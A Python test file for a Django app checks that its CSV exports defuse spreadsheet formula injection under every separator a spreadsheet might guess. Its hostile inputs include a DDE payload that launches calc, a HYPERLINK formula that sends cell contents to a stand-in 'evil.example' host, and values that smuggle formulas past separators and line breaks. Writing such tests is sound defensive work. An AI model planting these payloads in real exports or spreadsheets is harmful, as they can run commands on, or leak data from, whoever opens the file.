"""Every text cell of every CSV file the app writes is safe in a spreadsheet, whatever separator the
spreadsheet guesses (OWASP "CSV injection"): read with quotes as RFC 4180 says and without them, split
on a comma, a semicolon, a tab or a pipe, and on line breaks, no cell starts a formula."""

import csv
import io
import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import given
from hypothesis import strategies as st

from devopslearn.lib.spreadsheet import FORMULA_STARTS, csv_lines, safe_cell
from tests.cohorts.conftest import make_cohort
from tests.factories import make_user

READ_SEPARATORS = [",", ";", "\t", "|"]
HOSTILE = [
    "Anna;=cmd|' /C calc'!A0",
    "Anna\n=cmd|' /C calc'!A0",
    "Anna\r\n@SUM(1+1)",
    'Anna",=HYPERLINK("https://evil.example")',
    '=HYPERLINK("https://evil.example/?leak="&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "Anna|=1+1",
    "Anna\t\t=1+1",
    "Anna;;-1",
    "Anna; =1+1",
    "  =1+1",
]


def readings(text: str):
    """Every cell of ``text`` as a spreadsheet could read it: by each separator, with quotes and without."""
    body = text.lstrip("\ufeff")
    for separator in READ_SEPARATORS:
        for row in csv.reader(io.StringIO(body, newline=""), delimiter=separator):
            yield from row
        for line in re.split(r"\r\n|\r|\n", body):
            for cell in line.split(separator):
                yield cell.strip('"')


def formulas(text: str) -> list[str]:
    """The cells of any reading that start a formula, blanks before it trimmed as some readings do."""
    return [cell for cell in readings(text) if cell.lstrip(" \t\r\n")[:1] in set("=+-@")]


@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n,;|\"' aZ1"), max_size=12), min_size=1, max_size=4))
def test_no_reading_of_a_written_row_starts_a_formula(cells):
    text = "".join(csv_lines(["name"] * len(cells), [cells]))
    assert formulas(text) == []
    # Read as written (commas, quotes honoured), a cell is the text itself, with a leading ' at most
    # and a ' after a separator that would have started a formula.
    read = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))[1]
    for original, cell in zip(cells, read, strict=True):
        assert cell[:1] not in FORMULA_STARTS
        assert cell.replace("'", "") == original.replace("'", "")


@pytest.mark.parametrize("text", HOSTILE)
def test_each_hostile_name_is_one_text_cell(text):
    line = "".join(csv_lines(["name"], [[text]]))
    assert formulas(line) == []
    assert list(csv.reader(io.StringIO(line.lstrip("\ufeff"), newline="")))[1][0].startswith("'")


def test_the_issue_example_is_quoted_and_prefixed_before_each_piece():
    assert safe_cell("Anna;=cmd|' /C calc'!A0") == "'Anna;'=cmd|' /C calc'!A0"
    assert safe_cell("Lan") == "Lan"
    assert safe_cell(12) == 12 and safe_cell(None) is None and safe_cell("") == ""
    assert "".join(csv_lines(["a", "b"], [["Lan", 3]])) == '\ufeff"a","b"\r\n"Lan",3\r\n'


def csv_url_names(resolver=None, prefix=""):
    """The names of every URL pattern whose route ends in .csv."""
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            yield from csv_url_names(pattern, namespace)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).rstrip("$").endswith(".csv"):
            yield prefix + pattern.name


def cohort_export(client, world) -> str:
    client.force_login(world["lead"])
    response = client.get(reverse("cohorts:export", args=[world["cohort"].slug]))
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


# Every CSV the app serves, and how a test downloads it.
CSV_FILES = {"cohorts:export": cohort_export}


def test_every_csv_url_is_checked_here():
    assert sorted(csv_url_names()) == sorted(CSV_FILES), "add the new CSV file to CSV_FILES"


@pytest.fixture
def hostile_world(curriculum, lead):
    members = [make_user(f"h{i}", display_name=name[:80]) for i, name in enumerate(HOSTILE)]
    named = make_user("h-named", display_name="Anna")
    named.username = "=cmd|' /C calc'!A0;@x"  # the username cell too
    named.save(update_fields=["username"])
    cohort = make_cohort(curriculum, slug="hostile", leads=[lead], members=[*members, named])
    return {"lead": lead, "cohort": cohort}


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(CSV_FILES))
def test_every_text_cell_of_every_csv_is_safe_in_every_reading(client, hostile_world, name):
    text = CSV_FILES[name](client, hostile_world)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert len(rows) == 1 + len(HOSTILE) + 1
    assert formulas(text) == []
